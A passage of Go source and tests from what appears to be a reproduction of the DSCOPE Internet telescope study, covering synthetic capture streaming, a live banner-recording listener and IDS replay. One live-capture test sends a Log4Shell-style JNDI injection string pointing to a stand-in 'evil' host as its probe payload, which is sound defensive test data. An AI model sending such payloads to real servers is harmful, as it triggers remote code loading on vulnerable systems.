				SID: 200, Published: earlyPub, CVE: "2021-2000", Msg: "earlier", Bytes: 64,
			},
			OrigSID: 100, OrigCVE: "2022-1000", Gen: 1,
		},
		{
			Event: ids.Event{
				Time: t2, Src: src(40002), Dst: dst,
				SID: 201, Published: earlyPub, CVE: "2021-3000", Msg: "late sig", Bytes: 32,
			},
			Gen: 1,
		},
	}
	if err := st.AppendAmendments(amends); err != nil {
		t.Fatal(err)
	}

	after, err := eng.AsOf(at)
	if err != nil {
		t.Fatal(err)
	}
	if after.Amended() != 2 {
		t.Fatalf("Amended() = %d, want 2", after.Amended())
	}
	if after.EventCount() != 2 {
		t.Fatalf("EventCount() = %d, want 2", after.EventCount())
	}
	if s := after.Stats(); s.DistinctCVEs != 2 || s.MatchedEvents != 2 {
		t.Fatalf("amended stats: %+v", s)
	}
	events, err := after.Events()
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 2 || events[0].SID != 200 || events[1].SID != 201 {
		t.Fatalf("amended events: %+v", events)
	}
	got, err := after.CVEEvents("2022-1000")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Fatalf("raw CVE still visible after re-label: %+v", got)
	}
	got, err = after.CVEEvents("2021-2000")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got[0].SID != 200 {
		t.Fatalf("re-labeled CVE events: %+v", got)
	}

	// A view cut before the amended sessions sees no overlay at all.
	early, err := eng.AsOf(t1.Add(-time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	if early.Amended() != 0 || early.EventCount() != 0 {
		t.Fatalf("pre-history view: amended %d events %d", early.Amended(), early.EventCount())
	}

	// The diff between the raw-labeled and amended views moves the letters:
	// the original CVE loses its events, the re-attributed ones appear new.
	diffs := timeline.DiffTimelines(beforeTLs, after.Timelines())
	byCVE := map[string]timeline.CVEDiff{}
	for _, d := range diffs {
		byCVE[d.CVE] = d
	}
	if d, ok := byCVE["2021-2000"]; !ok || !d.New || d.EventsTo != 1 || len(d.Changed) == 0 {
		t.Fatalf("diff for re-labeled CVE: %+v (present %v)", byCVE["2021-2000"], ok)
	}
	if d, ok := byCVE["2021-3000"]; !ok || !d.New || d.EventsTo != 1 {
		t.Fatalf("diff for added CVE: %+v (present %v)", byCVE["2021-3000"], ok)
	}
	if _, ok := byCVE["2022-1000"]; ok {
		// DiffTimelines iterates the "to" side; a CVE that vanished outright
		// has no entry. Its disappearance is visible via membership instead.
		t.Fatalf("retracted CVE unexpectedly present in diff")
	}
	for _, tl := range after.Timelines() {
		if tl.CVE == "2022-1000" {
			t.Fatalf("retracted CVE still has a timeline: %+v", tl)
		}
	}

	// Max-generation wins: a newer amendment restoring the original label
	// supersedes the gen-1 re-label.
	if err := st.AppendAmendments([]eventstore.Amendment{{
		Event: raw, OrigSID: 100, OrigCVE: "2022-1000", Gen: 2,
	}}); err != nil {
		t.Fatal(err)
	}
	restored, err := eng.AsOf(at)
	if err != nil {
		t.Fatal(err)
	}
	events, err = restored.Events()
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != 2 || events[0].SID != 100 || events[1].SID != 201 {
		t.Fatalf("gen-2 restore: %+v", events)
	}
}
