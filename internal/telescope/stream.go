package telescope

import (
	"io"
	"sync"
	"sync/atomic"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// StreamConfig tunes the zero-materialization capture stream.
type StreamConfig struct {
	// Segments is how many virtual capture segments the synthetic traffic
	// is partitioned into; each gets its own PacketSource and (downstream)
	// its own decode goroutine. Zero means 1.
	Segments int
	// Queue bounds the sessions buffered per segment between the routing
	// goroutine and that segment's consumer — the backpressure that keeps
	// generation from outrunning the scan. Zero means 256.
	Queue int
}

func (c StreamConfig) withDefaults() StreamConfig {
	if c.Segments < 1 {
		c.Segments = 1
	}
	if c.Queue < 1 {
		c.Queue = 256
	}
	return c
}

// StreamMetrics is a point-in-time view of a running Stream, for /metrics.
type StreamMetrics struct {
	// Blueprints drawn from the source so far.
	Blueprints uint64
	// Sessions routed to segments so far.
	Sessions uint64
	// Packets synthesized across all segments so far.
	Packets uint64
	// Lag is the number of routed sessions not yet consumed — the
	// generator's lead over the scan. Bounded by Segments × Queue.
	Lag int
}

// Stream is a synthetic capture split into virtual segments: one lightweight
// routing goroutine draws blueprints from the source, materializes session
// records, and fans them out to per-segment queues partitioned by the
// reassembler's own flow hash (tcpasm.FlowShard). Each segment is a
// pcapio.PacketSource whose frames are synthesized lazily inside NextInto —
// what crosses the channel is the session record (endpoints plus payload
// slice), and the ~5× larger wire encoding only ever exists in the decoder's
// lent buffer. Flow-hash partitioning means every segment holds complete
// conversations, so ids.ScanCaptureSharded consumes the segments exactly
// like K time-ordered pcap files and, because frame bytes are a pure
// function of (seed, session), produces byte-identical results for any
// segment count.
type Stream struct {
	segs []*StreamSource
	stop chan struct{}
	done chan struct{}
	once sync.Once

	blueprints atomic.Uint64
	sessions   atomic.Uint64
}

// Stream starts the routing goroutine and returns the segmented capture.
// Close must be called if the segments are not drained to EOF.
func (t *Telescope) Stream(src BlueprintSource, cfg StreamConfig) *Stream {
	cfg = cfg.withDefaults()
	st := &Stream{
		stop: make(chan struct{}),
		done: make(chan struct{}),
	}
	for i := 0; i < cfg.Segments; i++ {
		ss := &StreamSource{
			seed: t.cfg.Seed,
			ch:   make(chan tcpasm.Session, cfg.Queue),
		}
		ss.g.b = packet.NewBuilder(t.cfg.Seed)
		st.segs = append(st.segs, ss)
	}
	go st.route(t, src)
	return st
}

// route is the producer: blueprint → session → flow-partitioned segment.
func (st *Stream) route(t *Telescope, src BlueprintSource) {
	defer close(st.done)
	for _, ss := range st.segs {
		defer close(ss.ch)
	}
	n := len(st.segs)
	for {
		bp, ok := src.Next()
		if !ok {
			return
		}
		st.blueprints.Add(1)
		s := t.Session(bp)
		si := 0
		if n > 1 {
			si = tcpasm.FlowShard(packet.Flow{Src: s.Client, Dst: s.Server}, n)
		}
		select {
		case st.segs[si].ch <- s:
			st.sessions.Add(1)
		case <-st.stop:
			return
		}
	}
}

// PacketSources returns the segments as generic capture sources, in segment
// order — the shape ids.ScanCaptureSharded takes.
func (st *Stream) PacketSources() []pcapio.PacketSource {
	out := make([]pcapio.PacketSource, len(st.segs))
	for i, ss := range st.segs {
		out[i] = ss
	}
	return out
}

// Segments returns the stream's segment sources.
func (st *Stream) Segments() []*StreamSource { return st.segs }

// Metrics snapshots generator progress. Safe from any goroutine.
func (st *Stream) Metrics() StreamMetrics {
	m := StreamMetrics{
		Blueprints: st.blueprints.Load(),
		Sessions:   st.sessions.Load(),
	}
	for _, ss := range st.segs {
		m.Packets += ss.packets.Load()
		m.Lag += len(ss.ch)
	}
	return m
}

// Close stops the routing goroutine and waits for it to exit. Draining every
// segment to EOF also ends the stream; Close is then a no-op. Safe to call
// multiple times.
func (st *Stream) Close() {
	st.once.Do(func() { close(st.stop) })
	<-st.done
}

// StreamSource is one virtual capture segment: a pcapio.ZeroCopySource whose
// records are synthesized on demand from the sessions routed to it. Like any
// capture reader it is not safe for concurrent use; each segment belongs to
// one decode goroutine.
type StreamSource struct {
	seed    int64
	ch      chan tcpasm.Session
	g       frameGen
	active  bool
	packets atomic.Uint64
}

// NextInto synthesizes the next frame into p, reusing p.Data's capacity —
// the decoder's lent buffer is the only place the wire bytes ever exist.
// Returns io.EOF when the stream's sessions are exhausted.
func (ss *StreamSource) NextInto(p *pcapio.Packet) error {
	for {
		if !ss.active {
			s, ok := <-ss.ch
			if !ok {
				return io.EOF
			}
			ss.g.start(ss.seed, &s)
			ss.active = true
		}
		ts, frame, ok, err := ss.g.next(p.Data[:0])
		if err != nil {
			return err
		}
		if !ok {
			ss.active = false
			continue
		}
		ss.packets.Add(1)
		p.Timestamp = ts
		p.Data = frame
		p.OrigLen = len(frame)
		return nil
	}
}

// Next implements pcapio.PacketSource (allocating per record; the sharded
// scan uses NextInto).
func (ss *StreamSource) Next() (pcapio.Packet, error) {
	var p pcapio.Packet
	if err := ss.NextInto(&p); err != nil {
		return pcapio.Packet{}, err
	}
	return p, nil
}
