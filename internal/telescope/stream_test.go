package telescope

import (
	"bytes"
	"fmt"
	"io"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
)

// capWriter records every frame WritePcap emits.
type capWriter struct {
	ts     []time.Time
	frames [][]byte
}

func (c *capWriter) WritePacket(ts time.Time, data []byte) error {
	c.ts = append(c.ts, ts)
	c.frames = append(c.frames, append([]byte(nil), data...))
	return nil
}

func (c *capWriter) Flush() error { return nil }

func streamWorkload(t *testing.T, seed int64) []scanner.Blueprint {
	t.Helper()
	bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: 4000, LegacyScans: 40})
	if err != nil {
		t.Fatal(err)
	}
	return bps
}

// drain reads a segment to EOF via NextInto, copying out each record.
func drain(t *testing.T, ss *StreamSource) ([]time.Time, [][]byte) {
	t.Helper()
	var (
		tss    []time.Time
		frames [][]byte
		p      pcapio.Packet
	)
	for {
		err := ss.NextInto(&p)
		if err == io.EOF {
			return tss, frames
		}
		if err != nil {
			t.Fatal(err)
		}
		if p.OrigLen != len(p.Data) {
			t.Fatalf("OrigLen %d != len(Data) %d", p.OrigLen, len(p.Data))
		}
		tss = append(tss, p.Timestamp)
		frames = append(frames, append([]byte(nil), p.Data...))
	}
}

// TestStreamSingleSegmentMatchesWritePcap: one segment must replay the exact
// frame-and-timestamp sequence of the materialized pcap writer.
func TestStreamSingleSegmentMatchesWritePcap(t *testing.T) {
	bps := streamWorkload(t, 3)
	tel := NewSim(SimConfig{Seed: 3})

	var want capWriter
	if err := tel.WritePcap(bps, &want); err != nil {
		t.Fatal(err)
	}

	st := tel.Stream(NewSliceSource(bps), StreamConfig{Segments: 1})
	defer st.Close()
	gotTS, gotFrames := drain(t, st.Segments()[0])

	if len(gotFrames) != len(want.frames) {
		t.Fatalf("streamed %d frames, pcap path wrote %d", len(gotFrames), len(want.frames))
	}
	for i := range gotFrames {
		if !gotTS[i].Equal(want.ts[i]) {
			t.Fatalf("frame %d: timestamp %v != %v", i, gotTS[i], want.ts[i])
		}
		if !bytes.Equal(gotFrames[i], want.frames[i]) {
			t.Fatalf("frame %d differs from pcap path", i)
		}
	}
}

// TestStreamSegmentsPartitionWithoutLoss: for any segment count the union of
// segments is the same frame multiset, each session's frames stay contiguous
// within one segment, and every session lands on its tcpasm.FlowShard.
func TestStreamSegmentsPartitionWithoutLoss(t *testing.T) {
	bps := streamWorkload(t, 5)
	tel := NewSim(SimConfig{Seed: 5})

	var want capWriter
	if err := tel.WritePcap(bps, &want); err != nil {
		t.Fatal(err)
	}
	wantCount := map[string]int{}
	for _, f := range want.frames {
		wantCount[string(f)]++
	}

	for _, segs := range []int{3, 8} {
		t.Run(fmt.Sprintf("segments%d", segs), func(t *testing.T) {
			st := tel.Stream(NewSliceSource(bps), StreamConfig{Segments: segs})
			defer st.Close()

			gotCount := map[string]int{}
			total := 0
			for si, ss := range st.Segments() {
				_, frames := drain(t, ss)
				for _, f := range frames {
					gotCount[string(f)]++
					total++
					p, err := packet.Decode(f)
					if err != nil {
						t.Fatalf("segment %d: undecodable frame: %v", si, err)
					}
					if got := tcpasm.FlowShard(p.Flow(), segs); got != si {
						t.Fatalf("segment %d holds a frame whose flow hashes to %d", si, got)
					}
				}
			}
			if total != len(want.frames) {
				t.Fatalf("streamed %d frames across %d segments, want %d", total, segs, len(want.frames))
			}
			for f, n := range wantCount {
				if gotCount[f] != n {
					t.Fatalf("frame multiset mismatch: a pcap-path frame appears %d times streamed, want %d", gotCount[f], n)
				}
			}
			m := st.Metrics()
			if m.Blueprints != uint64(len(bps)) || m.Sessions != uint64(len(bps)) {
				t.Fatalf("metrics: blueprints=%d sessions=%d, want %d each", m.Blueprints, m.Sessions, len(bps))
			}
			if m.Packets != uint64(total) {
				t.Fatalf("metrics: packets=%d, want %d", m.Packets, total)
			}
			if m.Lag != 0 {
				t.Fatalf("metrics: lag=%d after full drain", m.Lag)
			}
		})
	}
}

// TestStreamCloseUnblocksProducer: closing mid-stream must not leak the
// routing goroutine even with full segment queues.
func TestStreamCloseUnblocksProducer(t *testing.T) {
	bps := streamWorkload(t, 7)
	tel := NewSim(SimConfig{Seed: 7})
	st := tel.Stream(NewSliceSource(bps), StreamConfig{Segments: 2, Queue: 1})
	// Consume a little, then abandon.
	var p pcapio.Packet
	for i := 0; i < 3; i++ {
		if err := st.Segments()[0].NextInto(&p); err != nil {
			t.Fatal(err)
		}
	}
	done := make(chan struct{})
	go func() { st.Close(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Close did not unblock the routing goroutine")
	}
}
