// Package telescope implements DSCOPE, the paper's cloud-based interactive
// Internet telescope, in two modes:
//
//   - Simulated mode: a deterministic model of the deployment — a fleet of
//     short-lived instances (10-minute lifetime) cycling pseudorandomly
//     through cloud IPv4 space — that converts scanner blueprints into
//     captured TCP sessions, either directly or as byte-exact pcap files
//     (handshake, payload segments, teardown) for post-facto IDS replay.
//   - Live mode (listener.go): real TCP listeners that accept connections,
//     send no application-layer response, and record the client banner —
//     the actual DSCOPE instance behaviour, runnable on loopback.
//
// Both modes yield the same session records, so everything downstream of
// capture is mode-agnostic.
//
// # Streaming capture synthesis
//
// Everything the simulated telescope produces is derived lazily from one
// generator chain: a BlueprintSource (typically scanner.Stream) yields
// blueprints in time order, SessionSeq maps each to its session record, and
// frame synthesis turns a session into canonical wire frames one at a time.
// The materializing APIs — Sessions, WritePcap, SessionsToPcap — are thin
// wrappers that drain that chain, so the streamed and materialized paths are
// byte-identical by construction.
//
// Stream goes one step further: it splits the synthetic capture into
// StreamConfig.Segments virtual capture segments, partitioned by the
// reassembler's own flow hash (tcpasm.FlowShard), and exposes each as a
// pcapio.PacketSource. ids.ScanCaptureSharded consumes the segments exactly
// as it would K pcap files — but the frames are synthesized on demand inside
// the decoder's NextInto call, into the decoder's own lent buffer, so a
// paper-scale study runs end to end with no capture bytes ever materialized
// in memory or on disk. Frame bytes depend only on the session (one builder
// reseed per session), never on segment count, which is what keeps the
// streamed capture byte-identical to the pcap path for any partition.
package telescope
