package telescope

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"sync"
	"time"

	"repro/internal/packet"
	"repro/internal/tcpasm"
)

// LiveConfig tunes a live telescope instance.
type LiveConfig struct {
	// Addr is the IP to bind (loopback in local runs; a real DSCOPE
	// instance binds its public address).
	Addr string
	// Ports to listen on. Port 0 entries pick ephemeral ports (useful for
	// tests). A real instance accepts all ports via a redirect; a bounded
	// port set is the portable equivalent.
	Ports []int
	// BannerWindow is how long to wait for client data after accept before
	// closing (DSCOPE holds the connection without responding). Zero means
	// 5 seconds.
	BannerWindow time.Duration
	// MaxBanner caps captured bytes per connection. Zero means 64 KiB.
	MaxBanner int
}

func (c LiveConfig) withDefaults() LiveConfig {
	if c.Addr == "" {
		c.Addr = "127.0.0.1"
	}
	if len(c.Ports) == 0 {
		c.Ports = []int{0}
	}
	if c.BannerWindow == 0 {
		c.BannerWindow = 5 * time.Second
	}
	if c.MaxBanner == 0 {
		c.MaxBanner = 64 << 10
	}
	return c
}

// Live is a running live-mode telescope instance.
type Live struct {
	cfg       LiveConfig
	listeners []net.Listener
	sessions  chan tcpasm.Session
	wg        sync.WaitGroup
	closeOnce sync.Once
	done      chan struct{}
}

// NewLive binds the configured listeners and begins accepting. Captured
// sessions are delivered on Sessions(); call Close to stop.
func NewLive(cfg LiveConfig) (*Live, error) {
	cfg = cfg.withDefaults()
	l := &Live{
		cfg:      cfg,
		sessions: make(chan tcpasm.Session, 256),
		done:     make(chan struct{}),
	}
	for _, port := range cfg.Ports {
		ln, err := net.Listen("tcp", fmt.Sprintf("%s:%d", cfg.Addr, port))
		if err != nil {
			l.Close()
			return nil, fmt.Errorf("telescope: listen %s:%d: %w", cfg.Addr, port, err)
		}
		l.listeners = append(l.listeners, ln)
		l.wg.Add(1)
		go l.acceptLoop(ln)
	}
	return l, nil
}

// Addrs returns the bound listener addresses (with resolved ports).
func (l *Live) Addrs() []net.Addr {
	out := make([]net.Addr, len(l.listeners))
	for i, ln := range l.listeners {
		out[i] = ln.Addr()
	}
	return out
}

// Sessions returns the capture channel. It is closed after Close once all
// in-flight connections finish.
func (l *Live) Sessions() <-chan tcpasm.Session { return l.sessions }

// Close stops accepting and closes the session channel after in-flight
// handlers drain.
func (l *Live) Close() {
	l.closeOnce.Do(func() {
		close(l.done)
		for _, ln := range l.listeners {
			ln.Close()
		}
		go func() {
			l.wg.Wait()
			close(l.sessions)
		}()
	})
}

func (l *Live) acceptLoop(ln net.Listener) {
	defer l.wg.Done()
	for {
		conn, err := ln.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return
			}
			select {
			case <-l.done:
				return
			default:
				continue
			}
		}
		l.wg.Add(1)
		go l.handle(conn)
	}
}

// handle implements the DSCOPE instance behaviour: complete the handshake
// (done by the kernel), send nothing, read whatever the client volunteers
// within the banner window, and record it.
func (l *Live) handle(conn net.Conn) {
	defer l.wg.Done()
	defer conn.Close()
	start := time.Now().UTC()
	_ = conn.SetReadDeadline(start.Add(l.cfg.BannerWindow))

	buf := make([]byte, 4096)
	var banner []byte
	closed := false
	for len(banner) < l.cfg.MaxBanner {
		n, err := conn.Read(buf)
		banner = append(banner, buf[:n]...)
		if err != nil {
			// EOF means the client finished and closed cleanly; a deadline
			// expiry means the banner window elapsed with the peer silent.
			closed = errors.Is(err, io.EOF)
			break
		}
	}
	if len(banner) > l.cfg.MaxBanner {
		banner = banner[:l.cfg.MaxBanner]
	}
	s := tcpasm.Session{
		Client:     endpointOf(conn.RemoteAddr()),
		Server:     endpointOf(conn.LocalAddr()),
		Start:      start,
		End:        time.Now().UTC(),
		ClientData: banner,
		Complete:   true,
		Closed:     closed,
	}
	select {
	case l.sessions <- s:
	case <-l.done:
	}
}

func endpointOf(a net.Addr) packet.Endpoint {
	tcp, ok := a.(*net.TCPAddr)
	if !ok {
		return packet.Endpoint{}
	}
	addr, _ := netip.AddrFromSlice(tcp.IP)
	return packet.Endpoint{Addr: addr.Unmap(), Port: uint16(tcp.Port)}
}

// Probe dials a live telescope endpoint and sends payload, mimicking one
// scanner session. It waits briefly for (absent) server data, matching real
// scanner behaviour against an unresponsive service.
func Probe(ctx context.Context, addr string, payload []byte) error {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return fmt.Errorf("telescope: probe dial %s: %w", addr, err)
	}
	defer conn.Close()
	if _, err := conn.Write(payload); err != nil {
		return fmt.Errorf("telescope: probe write: %w", err)
	}
	// Half-close to signal end of banner, then linger briefly.
	if tc, ok := conn.(*net.TCPConn); ok {
		_ = tc.CloseWrite()
	}
	_ = conn.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
	buf := make([]byte, 16)
	_, _ = conn.Read(buf)
	return nil
}
