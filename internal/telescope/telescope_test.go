package telescope

import (
	"bytes"
	"context"
	"fmt"
	"testing"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
)

func smallWorkload(t *testing.T) []scanner.Blueprint {
	t.Helper()
	bps, err := scanner.Build(scanner.Config{Seed: 11, Scale: 1000, Noise: 20})
	if err != nil {
		t.Fatal(err)
	}
	return bps
}

func TestInstanceAtDeterministicAndChurning(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 1})
	at := time.Date(2022, 1, 1, 12, 0, 0, 0, time.UTC)
	a1 := tel.InstanceAt(at, 7)
	a2 := tel.InstanceAt(at, 7)
	if a1 != a2 {
		t.Error("same (time, slot) yielded different instances")
	}
	// Same slot two lifetimes later: the instance has been replaced.
	later := at.Add(25 * time.Minute)
	if tel.InstanceAt(later, 7) == a1 {
		t.Error("instance did not churn across lifetimes (hash collision is astronomically unlikely)")
	}
	// Within a lifetime period, the address is stable.
	if tel.InstanceAt(at.Add(time.Minute), 7) != a1 {
		t.Error("instance changed within its lifetime")
	}
}

func TestSessionsMaterialization(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 2})
	bps := smallWorkload(t)
	sessions := tel.Sessions(bps)
	if len(sessions) != len(bps) {
		t.Fatalf("sessions = %d, want %d", len(sessions), len(bps))
	}
	for i, s := range sessions {
		if !bytes.Equal(s.ClientData, bps[i].Payload) {
			t.Fatalf("session %d payload mismatch", i)
		}
		if s.Server.Port != bps[i].DstPort {
			t.Fatalf("session %d port %d, want %d", i, s.Server.Port, bps[i].DstPort)
		}
		if !s.Start.Equal(bps[i].Time) {
			t.Fatalf("session %d time mismatch", i)
		}
	}
	cov := Coverage(sessions)
	if cov.UniqueTelescopeIPs < 50 {
		t.Errorf("telescope IP diversity = %d, want broad churn", cov.UniqueTelescopeIPs)
	}
	if cov.UniqueSourceIPs < 10 {
		t.Errorf("source diversity = %d", cov.UniqueSourceIPs)
	}
}

// The pcap path and the fast path must agree: writing a capture, replaying
// it through decode + reassembly + IDS must yield the same attributions as
// matching the fast-path sessions directly.
func TestPcapPathEquivalentToFastPath(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 3})
	bps := smallWorkload(t)

	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	// Fast path.
	fast := ids.MatchSessions(tel.Sessions(bps), engine, nil)

	// Pcap path.
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := tel.WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	slow, stats, err := ids.ScanCapture(r, engine)
	if err != nil {
		t.Fatal(err)
	}
	if stats.DecodeErrors != 0 {
		t.Fatalf("decode errors = %d", stats.DecodeErrors)
	}
	if len(slow) != len(fast) {
		t.Fatalf("pcap path %d events, fast path %d", len(slow), len(fast))
	}
	fastBySID := map[int]int{}
	slowBySID := map[int]int{}
	for _, e := range fast {
		fastBySID[e.SID]++
	}
	for _, e := range slow {
		slowBySID[e.SID]++
	}
	for sid, n := range fastBySID {
		if slowBySID[sid] != n {
			t.Errorf("sid %d: fast %d, pcap %d", sid, n, slowBySID[sid])
		}
	}
}

func TestWritePcapProducesValidFrames(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 4})
	bps := smallWorkload(t)[:5]
	var buf bytes.Buffer
	w, _ := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet)
	if err := tel.WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	r, _ := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	pkts, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(pkts) < 5*5 {
		t.Fatalf("too few packets: %d", len(pkts))
	}
	for i, p := range pkts {
		if _, err := packet.Decode(p.Data); err != nil {
			t.Fatalf("packet %d invalid: %v", i, err)
		}
	}
}

func TestLiveTelescopeCapturesBanner(t *testing.T) {
	live, err := NewLive(LiveConfig{BannerWindow: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	addr := live.Addrs()[0].String()

	payload := []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: t\r\n\r\n")
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := Probe(ctx, addr, payload); err != nil {
		t.Fatal(err)
	}

	select {
	case s := <-live.Sessions():
		if !bytes.Equal(s.ClientData, payload) {
			t.Errorf("banner = %q", s.ClientData)
		}
		if !s.Complete {
			t.Error("live session not marked complete")
		}
		if !s.Closed {
			t.Error("client close not detected")
		}
	case <-time.After(3 * time.Second):
		t.Fatal("no session captured")
	}
	live.Close()
}

func TestLiveTelescopeSendsNothing(t *testing.T) {
	live, err := NewLive(LiveConfig{BannerWindow: 300 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer live.Close()
	addr := live.Addrs()[0].String()

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	// Probe reads after writing; a correct instance sends zero bytes, so
	// Probe returns without error after its short read deadline.
	if err := Probe(ctx, addr, []byte("banner")); err != nil {
		t.Fatal(err)
	}
}

func TestLiveTelescopeEndToEndIDS(t *testing.T) {
	// Full live loop: real scanners over loopback TCP, live capture, real
	// IDS attribution.
	live, err := NewLive(LiveConfig{BannerWindow: time.Second, Ports: []int{0, 0}})
	if err != nil {
		t.Fatal(err)
	}
	addrs := live.Addrs()

	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	bps, err := scanner.Build(scanner.Config{Seed: 21, Scale: 3000, Noise: 5})
	if err != nil {
		t.Fatal(err)
	}
	if len(bps) > 40 {
		bps = bps[:40]
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	want := map[int]int{}
	for i, bp := range bps {
		if err := Probe(ctx, addrs[i%len(addrs)].String(), bp.Payload); err != nil {
			t.Fatal(err)
		}
		if bp.SID != 0 {
			want[bp.SID]++
		}
	}
	live.Close()

	got := map[int]int{}
	noise := 0
	for s := range live.Sessions() {
		sess := s
		m, ok := engine.Earliest(&sess)
		if !ok {
			noise++
			continue
		}
		got[m.SID]++
	}
	for sid, n := range want {
		if got[sid] != n {
			t.Errorf("sid %d: captured %d, want %d", sid, got[sid], n)
		}
	}
	if total(got)+noise != len(bps) {
		t.Errorf("captured %d sessions, sent %d", total(got)+noise, len(bps))
	}
}

func total(m map[int]int) int {
	n := 0
	for _, v := range m {
		n += v
	}
	return n
}

func TestCoverageGrowsWithWorkload(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 5, Concurrent: 50})
	small, err := scanner.Build(scanner.Config{Seed: 1, Scale: 2000, Noise: 10})
	if err != nil {
		t.Fatal(err)
	}
	large, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200, Noise: 100})
	if err != nil {
		t.Fatal(err)
	}
	cs := Coverage(tel.Sessions(small))
	cl := Coverage(tel.Sessions(large))
	if cl.UniqueTelescopeIPs <= cs.UniqueTelescopeIPs {
		t.Errorf("coverage did not grow: %d -> %d", cs.UniqueTelescopeIPs, cl.UniqueTelescopeIPs)
	}
}

func TestInstanceAddressesInsidePool(t *testing.T) {
	prefixes := []string{"198.18.0.0/20"}
	tel := NewSim(SimConfig{Seed: 6, PoolPrefixes: prefixes})
	for i := 0; i < 500; i++ {
		at := datasets.StudyWindow.Start.Add(time.Duration(i) * 13 * time.Minute)
		a := tel.InstanceAt(at, uint64(i))
		if !tel.pool.Contains(a) {
			t.Fatalf("instance %s outside pool", a)
		}
	}
}

func BenchmarkSessionsMaterialization(b *testing.B) {
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 100})
	if err != nil {
		b.Fatal(err)
	}
	tel := NewSim(SimConfig{Seed: 1})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := tel.Sessions(bps); len(got) != len(bps) {
			b.Fatal("length mismatch")
		}
	}
}

func ExampleCoverage() {
	tel := NewSim(SimConfig{Seed: 1})
	bps, _ := scanner.Build(scanner.Config{Seed: 1, Scale: 5000, Noise: 1})
	cov := Coverage(tel.Sessions(bps))
	fmt.Println(cov.Sessions > 0, cov.UniqueTelescopeIPs > 0)
	// Output: true true
}

// The pcapng path must agree with the classic pcap path: both replay through
// OpenCapture + ScanCapture to identical attributions.
func TestPcapngPathEquivalent(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 8})
	bps := smallWorkload(t)
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	scanVia := func(w PacketWriter, data func() []byte) []ids.Event {
		t.Helper()
		if err := tel.WritePcap(bps, w); err != nil {
			t.Fatal(err)
		}
		src, err := pcapio.OpenCapture(bytes.NewReader(data()))
		if err != nil {
			t.Fatal(err)
		}
		events, stats, err := ids.ScanCapture(src, engine)
		if err != nil {
			t.Fatal(err)
		}
		if stats.DecodeErrors != 0 {
			t.Fatalf("decode errors: %d", stats.DecodeErrors)
		}
		return events
	}

	var classicBuf bytes.Buffer
	cw, err := pcapio.NewWriter(&classicBuf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	classic := scanVia(cw, classicBuf.Bytes)

	var ngBuf bytes.Buffer
	nw, err := pcapio.NewNgWriter(&ngBuf, pcapio.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	ng := scanVia(nw, ngBuf.Bytes)

	if len(classic) != len(ng) {
		t.Fatalf("classic %d events, pcapng %d", len(classic), len(ng))
	}
	for i := range classic {
		if classic[i].SID != ng[i].SID || !classic[i].Time.Equal(ng[i].Time) {
			t.Fatalf("event %d differs between formats", i)
		}
	}
}

// Live-style session records reconstruct into a capture that replays to the
// same attributions.
func TestSessionsToPcapRoundTrip(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 12})
	bps := smallWorkload(t)
	sessions := tel.Sessions(bps)

	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := SessionsToPcap(sessions, w, 12); err != nil {
		t.Fatal(err)
	}
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	direct := ids.MatchSessions(sessions, engine, nil)

